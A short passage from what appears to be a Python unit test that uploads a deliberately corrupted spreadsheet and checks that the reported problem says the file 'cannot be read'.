            self.upload(self.kapus_lubuk_pinang, rezip(content, {SHEET: broken}))
        )
        self.assertIn("cannot be read", problem[2])
